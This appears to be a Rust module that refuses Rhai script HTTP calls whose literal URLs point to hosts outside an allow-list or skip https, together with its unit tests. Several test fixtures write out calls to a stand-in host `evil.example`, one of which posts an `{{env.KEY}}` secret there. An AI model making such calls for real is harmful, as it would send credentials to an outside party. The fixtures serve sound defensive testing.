//! `check` refuses what it can know before a run: a call to `http::get` or `http::post` whose
//! URL is a literal string (after the optimizer has folded constants, so `const HOOK = "...";
//! http::post(HOOK, ..)` counts) naming a host the header's `http` list does not allow, or
//! breaking the scheme rule. URLs built while the script runs, and URLs whose host is an
//! `{{env.NAME}}` secret, are checked at run time, on every call.

use rhai::{Expr, Position, AST};

use super::ast_calls::for_each_namespaced_call;
use crate::outbound::AllowList;

/// The functions whose first argument is a URL.
const URL_FUNCTIONS: &[(&str, &str)] = &[("http", "get"), ("http", "post")];

/// The first literal URL the allow-list refuses: where it is and why.
pub(crate) fn refused_literal_url(ast: &AST, allow: &AllowList) -> Option<(Position, String)> {
    let mut found = None;
    for_each_namespaced_call(ast, |call| {
        let (ns, pos) = (&call.namespace, &call.pos);
        if !URL_FUNCTIONS
            .iter()
            .any(|(m, f)| m == ns && call.name == *f)
        {
            return true;
        }
        let Some(Expr::StringConstant(url, url_pos)) = call.args.first() else {
            return true;
        };
        if let Some(checkable) = checkable_form(url) {
            if let Err(e) = allow.check(&checkable, url) {
                let at = if url_pos.is_none() { *pos } else { *url_pos };
                found = Some((at, format!("{ns}::{}: {e}", call.name)));
                return false;
            }
        }
        true
    });
    found
}

/// The URL with `{{env.NAME}}` placeholders outside its host filled in, or `None` when a
/// placeholder is (or may be) part of the scheme or host, which only the run knows.
fn checkable_form(url: &str) -> Option<String> {
    let Some(first) = url.find("{{") else {
        return Some(url.to_string());
    };
    let prefix = &url[..first];
    let after_scheme = prefix.split_once("://")?.1;
    if !after_scheme.contains(['/', '?', '#']) {
        return None;
    }
    let mut out = String::new();
    let mut rest = url;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        match rest[start..].find("}}") {
            Some(end) => {
                out.push_str("secret");
                rest = &rest[start + end + 2..];
            }
            None => {
                rest = &rest[start..];
                break;
            }
        }
    }
    out.push_str(rest);
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(src: &str, allow: &[&str]) -> Option<(usize, String)> {
        let ast = rhai::Engine::new_raw().compile(src).unwrap();
        refused_literal_url(&ast, &AllowList::parse(allow).unwrap())
            .map(|(pos, m)| (pos.line().unwrap_or(0), m))
    }

    #[test]
    fn literal_urls_to_other_hosts_are_refused() {
        let src = "let a = 1;\nhttp::post(\"https://example.org/x\", #{});\n";
        let (line, msg) = refused(src, &["hooks.slack.com"]).unwrap();
        assert_eq!(line, 2);
        assert!(
            msg.starts_with("http::post: host `example.org` is not allowed"),
            "{msg}"
        );
        assert!(refused(
            "http::get(\"https://hooks.slack.com/a\");",
            &["hooks.slack.com"]
        )
        .is_none());
        // Inside functions and blocks too; constants are folded into the call.
        let (line, _) = refused(
            "fn ping() {\n  if true { http::get(\"https://evil.example/\") }\n}",
            &["hooks.slack.com"],
        )
        .unwrap();
        assert_eq!(line, 2);
        assert!(refused(
            "const HOOK = \"https://evil.example/\";\nhttp::post(HOOK, 1);",
            &[]
        )
        .is_some());
        // The scheme rule applies at check time as well.
        let (_, msg) = refused(
            "http::get(\"http://hooks.slack.com/\");",
            &["hooks.slack.com"],
        )
        .unwrap();
        assert!(msg.contains("https"), "{msg}");
    }

    #[test]
    fn run_time_urls_and_secret_hosts_are_left_to_the_run() {
        assert!(refused(
            "let u = \"https://evil.example/\";\nhttp::get(u + \"x\");",
            &[]
        )
        .is_none());
        assert!(refused("http::post(\"{{env.HOOK}}\", #{});", &[]).is_none());
        assert!(refused("http::post(\"https://{{env.HOST}}/x\", #{});", &[]).is_none());
        // A secret in the path does not hide the host.
        assert!(refused(
            "http::post(\"https://evil.example/{{env.KEY}}\", #{});",
            &[]
        )
        .is_some());
        assert!(refused(
            "http::post(\"https://events.pagerduty.com/v2/{{env.KEY}}\", #{});",
            &["events.pagerduty.com"]
        )
        .is_none());
        // Other modules' functions with the same names are not URLs.
        assert!(refused("tickets::get(\"https://evil.example/\");", &[]).is_none());
    }
}
